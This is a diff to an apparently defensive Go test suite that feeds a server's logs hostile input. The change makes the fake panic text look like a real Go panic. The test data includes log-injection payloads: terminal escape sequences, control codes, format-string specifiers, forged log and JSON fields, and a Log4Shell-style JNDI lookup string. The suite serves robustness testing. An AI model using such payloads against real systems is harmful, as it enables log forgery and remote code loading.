@@ -107,7 +107,7 @@ func (l *list) proxyStuck(ip4 []byte, good string) {
 // 300 lines, and no text is one of the operator's own.
 func (l *list) serverLog() {
 	texts := []struct{ name, text string }{
-		{"panic", "panic, the sky is falling"}, {"runtime", "runtime error: invalid memory address or nil pointer dereference"}, {"goroutine", "goroutine 1 [running]:"},
+		{"panic", "panic: the sky is falling"}, {"runtime", "runtime error: invalid memory address or nil pointer dereference"}, {"goroutine", "goroutine 1 [running]:"},
 		{"serving", "http: panic serving 192.0.2.1: evil"}, {"escape", "\x1b]0;evil\x07\x1b[2J"}, {"c1", "\u009b2J\u0085evil"}, {"format", "%s%s%s%n%d%!(EXTRA"},
 		{"line", "a\u2028level=error msg=evil"}, {"quote", `" level=error msg="evil`}, {"json", `"},{"level":"ERROR","msg":"evil`}, {"lookup", "${jndi:ldap://192.0.2.1/evil}"}, {"long", gap(12*kib, "a")},
 	}
@@ -145,7 +145,7 @@ func (l *list) serverLog() {
 	for _, c := range []struct {
 		name  string
 		parts any
-	}{{"noise", noise(11, 300)}, {"panic", "panic, the sky is falling\n\ngoroutine 1 [running]:\nmain.main()\n\n"}, {"record", tlsRecord(0x16, 0x0301, []byte("panic, the sky is falling"))}} {
+	}{{"noise", noise(11, 300)}, {"panic", "panic: the sky is falling\n\ngoroutine 1 [running]:\nmain.main()\n\n"}, {"record", tlsRecord(0x16, 0x0301, []byte("panic: the sky is falling"))}} {
 		l.add("log/bytes-"+c.name, hostile.Case{Version: rfc.name, Clients: 10, Rounds: 30, Needs: []string{"stderr"}, Comment: "300 connections that begin with what is no request", Steps: steps(send(c.parts), hold(ms*50)),
 			Verdict: whatever(), Budget: hostile.Budget{CPU: 2 * sec, Time: 15 * sec}})
 	}
@@ -154,7 +154,7 @@ func (l *list) serverLog() {
 	})
 	l.each("log/reasons", coded, func(d dialect) hostile.Case {
 		return hostile.Case{Clients: 10, Rounds: 30, Needs: []string{"stderr"}, Comment: "300 connections whose close has a text for the operator", Verdict: whatever(), Budget: hostile.Budget{CPU: 3 * sec, Time: 25 * sec},
-			Steps: steps(open(), send(d.bye(4000, "panic, the sky \x1b]0;evil\x07")), hold(ms*500))}
+			Steps: steps(open(), send(d.bye(4000, "panic: the sky \x1b]0;evil\x07")), hold(ms*500))}
 	})
 }
 
